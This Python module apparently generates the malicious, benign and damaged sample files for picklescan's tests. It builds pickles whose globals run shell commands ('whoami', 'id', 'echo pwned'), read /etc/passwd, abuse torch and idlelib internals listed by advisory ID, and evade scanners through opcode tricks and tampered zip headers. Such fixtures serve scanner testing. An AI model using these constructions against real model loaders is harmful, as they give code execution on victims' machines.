"""The samples of picklescan's own tests, which its source distribution does not carry.

Written anew from what `tests/init_data_files.py` and `tests/test_scanner.py` of its repository say
of each: which global is called with what. The commands in them are as harmless as theirs.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
from _admit_assembly import Call, Name, assembled, call, pickled

SHELL = "__import__('os').system('whoami')"
PRINT = call("builtins:eval", "print('456')")
GET = call("requests.api:get", "https://github.com")
IDLE, TORCH = "idlelib", "torch"
FILES = (  # of tests that need no name of an advisory
    ("malicious3.pkl", 0, call("httplib:HTTPSConnection", "github.com")),
    ("malicious4.pickle", 4, GET),
    ("malicious5.pickle", 4, call("aiohttp.client:ClientSession")),
    ("malicious7.pkl", 4, call("socket:create_connection", ("github.com", 80))),
    ("malicious8.pkl", 4, call("subprocess:run", ["ls", "-l"])),
    ("malicious9.pkl", 4, call("sys:exit", 0)),
    ("malicious13a.pkl", 0, call("cPickle:loads", b"I12345\n.")),
    ("malicious13b.pkl", 4, call("_pickle:loads", b"I12345\n.")),
    ("malicious14.pkl", 4, call("runpy:_run_code", "print('456')")),
    ("malicious15a.pkl", 2, call("bdb:Bdb.run", call("bdb:Bdb"), "import os\nos.system('id')")),
    ("malicious15b.pkl", 4, call("bdb:Bdb.run", call("bdb:Bdb"), "import os\nos.system('id')")),
    ("malicious16.pkl", 0, call("pip._internal.cli.main:main", ["install", "nothing", "-q"])),
    ("malicious17.pkl", 4, call("torch._inductor.codecache:compile_file", "", "", ["sh", "-c"])),
    ("malicious18.pkl", 4, call("pydoc:pipepager", "", 'echo "pwned"')),
    ("malicious20.pkl", 4, call("venv:create", "venv", False, False, True, False, "$(echo no)")),  # noqa: FBT003
    ("malicious21.pkl", 4, call("timeit:timeit", "", "import os; os.system('id')")),
    (
        "malicious22.pkl",
        4,
        call("numpy.testing._private.utils:runstring", "import os; os.system('id')", {}),
    ),
    ("io_FileIO.pkl", 4, call("_io:FileIO", "/etc/hosts", "r")),
    ("urllib_request_urlopen.pkl", 4, call("urllib.request:urlopen", "https://example.invalid")),
    ("logging_FileHandler.pkl", 4, call("logging:FileHandler", "evil.log")),
    ("GHSA-g38g-8gr9-h9xp-uuid.pkl", 4, call("uuid:_get_command_stdout", "id")),
    ("GHSA-g38g-8gr9-h9xp-osx-support.pkl", 4, call("_osx_support:_read_output", "id")),
    ("GHSA-g38g-8gr9-h9xp-aix-support.pkl", 4, call("_aix_support:_read_cmd_output", "id")),
    ("GHSA-g38g-8gr9-h9xp-imaplib.pkl", 4, call("imaplib:IMAP4_stream", "id")),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", 4, call("_pyrepl.pager:pipe_pager", "text", "id")),
    (
        "GHSA-g38g-8gr9-h9xp-test.pkl",
        4,
        call("test.support.script_helper:assert_python_ok", "-c pass"),
    ),
)
ADVISORIES: dict[str, Call] = {
    "4r9r-ch6f-vxmx": call("torch.utils.bottleneck.__main__:run_cprofile", SHELL, {}),
    "86cj-95qr-2p4f": call("torch._dynamo.guards:GuardBuilder.get", {}, SHELL),
    "f4x7-rfwp-v3xw": call(
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", {}, SHELL, []
    ),
    "f745-w6jp-hpxx": call("torch.utils.collect_env:run", SHELL),
    "jhph-76pp-mggw": call(
        "torch.utils.collect_env:run_and_read_all", Name("torch.utils.collect_env:run"), SHELL
    ),
    "h3qp-7fh3-f8h4": call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", b""),
    "vr7h-p6mm-wpmh": call("torch.jit.unsupported_tensor_ops:execWrapper", SHELL, {}, {}),
    "vv6j-3g6g-2pvj": call("torch.utils._config_module:ConfigModule.load_config", {}, b""),
    "5qwp-399c-mjwf": call("trace:Trace.run", {}, SHELL),
    "g344-hcph-8vgg": call("trace:Trace.runctx", {}, SHELL, {}, {}),
    "x696-vm39-cp64": call("profile:Profile.run", {}, SHELL),
    "6vqj-c2q5-j97w": call("profile:Profile.runctx", {}, SHELL, {}, {}),
    "f54q-57x4-jg88": call("lib2to3.pgen2.grammar:Grammar.loads", {}, b""),
    "3vg9-h568-4w9m": call("idlelib.debugobj:ObjectTreeItem.SetText", {}, SHELL),
    "6w4w-5w54-rjvr": call("idlelib.autocomplete:AutoComplete.get_entity", {}, SHELL),
    "7cq8-mj8x-j263": call("idlelib.autocomplete:AutoComplete.fetch_completions", {}, SHELL, 0),
    "cj3c-v495-4xqh": call("code:InteractiveInterpreter.runcode", {}, SHELL),
    "8r4j-24qv-fmq9": call("idlelib.calltip:Calltip.fetch_tip", {}, SHELL),
    "9xph-j2h6-g47v": call("idlelib.calltip:get_entity", SHELL),
    "4whj-rm5r-c2v8": call("torch.utils.bottleneck.__main__:run_autograd_prof", SHELL, {}),
    "xp4f-hrf8-rxw7": call("ensurepip:_run_pip", SHELL),
    "p9w7-82w4-7q8m": call(
        "lib2to3.pgen2.pgen:ParserGenerator.make_label", None, {}, '""+' + SHELL
    ),
    "vvpj-8cmc-gx39": call("pkgutil:resolve_name", "os:system"),
    "m869-42cg-3xwr": call("idlelib.run:Executive.runcode", {}, SHELL),
    "j343-8v2j-ff7w": call("idlelib.pyshell:ModifiedInterpreter.runcommand", {}, SHELL),
    "3gf5-cxq9-w223": call("idlelib.pyshell:ModifiedInterpreter.runcode", {}, SHELL),
    "fqq6-7vqf-w3fg": call("doctest:debug_script", SHELL, True),  # noqa: FBT003
    "9w88-8rmg-7g2p": call("cProfile:runctx", SHELL, None, None),
    "49gj-c84q-6qm9": call("cProfile:run", SHELL),
    "7wx9-6375-f5wh": call("profile:run", SHELL),
    "q77w-mwjj-7mqx": call(
        "asyncio.unix_events:_UnixSubprocessTransport._start",
        *({}, "whoami", True, None, None, None, 0),
    ),
    "m273-6v24-x4m4": call("distutils.file_util:write_file", "pwned.env", ["malicious content"]),
    "4675-36f9-wf6r": call("ctypes:CDLL", None),
    "84r2-jw7c-4r5q": Call(
        call("operator:methodcaller", "system", "echo pwned"), (call("pydoc:locate", "os"),)
    ),
    "vqmv-47xg-9wpr": call("pty:spawn", ["/bin/sh", "-c", "id; exit"]),
    "r8g5-cgf2-4m4m": call("numpy.f2py.crackfortran:getlincoef", SHELL, []),
    "46h3-79wf-xr6c": Call(
        Call(call("_operator:attrgetter", "system"), (call("builtins:__import__", "os"),)),
        ("echo pwned",),
    ),
    "955r-x9j8-7rhh": Call(
        call("_operator:methodcaller", "system", "echo pwned"), (call("builtins:__import__", "os"),)
    ),
}
FLAG = (
    *("unicode:os", "put:2", "pop", "unicode:system", "put:3", "pop", "unicode:torch", "put:0"),
    *("pop", "unicode:LongStorage", "put:1", "pop", "get:2", "get:3", "stack_global", "mark"),
    *("unicode:cat flag.txt", "tuple", "reduce", "stop"),
)


def malicious() -> Iterator[tuple[str, bytes]]:
    """Each dangerous sample: its name and its bytes."""
    for protocol in (0, 3, 4):
        builtins, system = ("__builtin__", "posix") if protocol == 0 else ("builtins", "posix")
        yield f"malicious1_v{protocol}.pkl", pickled(call(f"{builtins}:eval", "print(1)"), protocol)
        yield f"malicious2_v{protocol}.pkl", pickled(call(f"{system}:system", "ls -la"), protocol)
    for name, protocol, value in FILES:
        yield name, pickled(value, protocol)
    for name, value in ADVISORIES.items():
        yield f"GHSA-{name}.pkl", pickled(value)
    yield "GHSA-jgw4-cr84-mqxg.bin", pickled(ADVISORIES["q77w-mwjj-7mqx"])
    yield "malicious6.pkl", pickle.dumps(["a", "b", "c"]) + pickled(GET)
    yield from _of_opcodes()
    yield from _of_archives()
    code = compile("print('made of parts')", "<code>", "exec")
    facts = ("argcount", "posonlyargcount", "kwonlyargcount", "nlocals", "stacksize", "flags")
    parts = ("code", "consts", "names", "varnames", "filename", "name", "qualname")
    ends = ("firstlineno", "linetable", "exceptiontable", "freevars", "cellvars")
    values = [getattr(code, f"co_{each}") for each in (*facts, *parts, *ends)]
    made = call("types:CodeType", *values)
    yield "types_CodeType.pkl", pickled(made)
    module = "cloudpickle.cloudpickle"
    kind = call(f"{module}:_builtin_type", "CodeType")
    function = call(f"{module}:_make_function", Call(kind, tuple(values)), {}, None, None, None)
    yield "cloudpickle_codeinjection.pkl", pickled(Call(function))
    yield "dns_exfiltration.npy", _array(call("ssl:get_server_certificate", ("a.invalid", 443)))


def _of_opcodes() -> Iterator[tuple[str, bytes]]:
    read = 'fl=open("/etc/passwd");picklesmashed=fl.read();'
    scope = (
        *("global:__builtin__:globals", "mark", "tuple", "reduce", "put:100", "pop"),
        *("global:__builtin__:compile", "mark", f"string:{read}", "string:", "string:exec"),
        *("tuple", "reduce", "put:101", "pop", "global:__builtin__:eval", "mark", "get:101"),
        *("get:100", "tuple", "reduce", "put:102", "pop", "global:__builtin__:getattr", "mark"),
        *("global:__builtin__:dict", "string:get", "tuple", "reduce", "put:103", "pop"),
        *("global:__builtin__:apply", "mark", "get:103", "mark", "get:100"),
        *("string:picklesmashed", "list", "tuple", "reduce", "put:104", "pop", "get:104", "stop"),
    )
    yield "malicious0.pkl", assembled(*scope)
    raised = 'string:raise RuntimeError("Injection running")'
    yield "malicious10.pkl", assembled("mark", raised, "inst:__builtin__:exec", "stop")
    yield "malicious11.pkl", assembled(*FLAG)
    yield "malicious-invalid-bytes.pkl", assembled(*FLAG) + b"\n\n\t\t"
    attribute = call("operator:attrgetter", "system")
    system = Call(attribute, (call("builtins:__import__", "os"),))
    yield "malicious12.pkl", pickled(Call(system, ("echo pwned",)))
    loaded = Call(Name("functools:partial"), (Name("torch.serialization:load"),))
    partial = Call(
        loaded.function,
        loaded.arguments,
        (
            Name("torch.serialization:load"),
            ("some_other_model.bin",),
            {"pickle_file": "config.json", "weights_only": False},
            None,
        ),
    )
    yield "malicious19.pkl", pickled(Call(partial))
    yield (
        "malicious23.pkl",
        assembled(
            *("string:os", "string:system", "stack_global", "string:ls", "tuple1", "reduce", "stop")
        ),
    )
    acts = ("proto:4", "global:os:system", "unicode:echo pwned", "tuple1", "reduce", "pop")
    yield (
        "keyerror-exploit.pkl",
        assembled(
            *acts,
            "text:os",
            "memoize",
            "binget:3",
            "binget:0",
            "stack_global",
            "binint1:66",
            "stop",
        ),
    )
    confused = ("binint1:42", "memoize", "text:os", "memoize", "binget:0", "binget:1")
    yield (
        "type-confusion-exploit.pkl",
        assembled(*acts, *confused, "stack_global", "binint1:66", "stop"),
    )
    # torch is told that one of its modules is another one, and that a name in it is another one.
    patched = (
        *("proto:4", "unicode:torch._utils", "memoize", "unicode:_rebuild_tensor", "memoize"),
        *("stack_global", "memoize", "pop", "unicode:torch", "unicode:_utils", "stack_global"),
        *("memoize", "pop", "binget:3", "empty_dict", "binget:1", "unicode:builtins", "setitem"),
        *("build", "pop", "binget:0", "binget:1", "stack_global", "binget:3", "empty_dict"),
        *("binget:1", "unicode:eval", "setitem", "build", "pop", "binget:0", "binget:1"),
        *("stack_global", "stack_global", "unicode:print(1)", "tuple1", "reduce", "stop"),
    )
    yield "sys_module_override_sploit.pkl", assembled(*patched)
    magic = pickled(call("__builtin__:eval", "0x1950A86A20F9469CFC6C"), 2)
    rest = [pickle.dumps(each, 2) for each in (1001, {}, [])]
    last = pickled(call("posix:system", "echo pwned"), 2) + pickle.dumps(None, 2)
    yield "pytorch_magic_bypass.pt", magic + b"".join(rest) + last
    text = ">\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()"
    yield "broken_model.pkl", b"cbuiltins\nexec\n(X" + text.encode() + b"tRX."


def _of_archives() -> Iterator[tuple[str, bytes]]:
    inner = pickled(PRINT)
    whole = _zipped("data.pkl", inner)
    yield "malicious1.zip", whole
    yield "malicious1_wrong_ext.zip", _zipped("data.txt", inner)
    yield "malicious1_central_directory.zip", whole.replace(b"data.pkl", b"datap.kl", 1)
    yield "malicious1_crc.zip", whole.replace(b"print('456')", b"print('123')", 1)
    for flag in (0x1, 0x20, 0x40):  # encrypted, patched, strongly encrypted: it only says so
        raw = bytearray(whole)
        for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            raw[raw.find(signature) + at] |= flag
        yield f"malicious1_{flag:#x}.zip", bytes(raw)


def benign() -> Iterator[tuple[str, bytes]]:
    """Each harmless sample: its name and its bytes."""
    for protocol in (0, 3, 4):
        yield f"benign0_v{protocol}.pkl", pickle.dumps(["a", "b", "c"], protocol)
    objects, numbers = np.empty((2, 2), dtype=object), np.array([[1, 2], [3, 4]])
    objects[:] = [(1, 2), (3, 4)]
    yield "object_array.npy", _saved(objects)
    yield "int_array.npy", _saved(numbers)
    few = np.arange(3)
    for name, save in (("arrays", np.savez), ("arrays_compressed", np.savez_compressed)):
        for kind, dtype in (("object", object), ("int", int)):
            target = io.BytesIO()
            save(target, a=few.astype(dtype), b=few.astype(dtype) + 3)
            yield f"{kind}_{name}.npz", target.getvalue()


def damaged() -> Iterator[tuple[str, bytes]]:
    """What is neither: no loader takes it for a model."""
    yield "bad_pytorch.pt", b"\x89PNG\r\n\x1a\n"
    yield "not_a_pickle.bin", b"cmod\n\xf8\n"


def _zipped(name: str, raw: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, raw)
    return target.getvalue()


def _saved(array: np.ndarray) -> bytes:
    target = io.BytesIO()
    np.save(target, array, allow_pickle=True)
    return target.getvalue()


def _array(value: Call) -> bytes:
    """An array of one object, which is what the call gives."""
    whole = _saved(np.array([None], dtype=object))
    start = 10 + int.from_bytes(whole[8:10], "little")
    made = call("numpy._core.multiarray:_reconstruct", Name("numpy:ndarray"), (0,), b"b")
    state = (1, (1,), call("numpy:dtype", "O8", False, True), False, [value])  # noqa: FBT003
    return whole[:start] + pickled(Call(made.function, made.arguments, state), 3)


def write(folder: Path) -> dict[str, tuple[Path, ...]]:
    """Write all of them; the paths by what they are."""
    written = {}
    for kind, made in (("malicious", malicious), ("benign", benign), ("damaged", damaged)):
        place = folder / kind
        place.mkdir(parents=True)
        for name, raw in made():
            (place / name).write_bytes(raw)
        written[kind] = tuple(sorted(place.iterdir()))
    return written
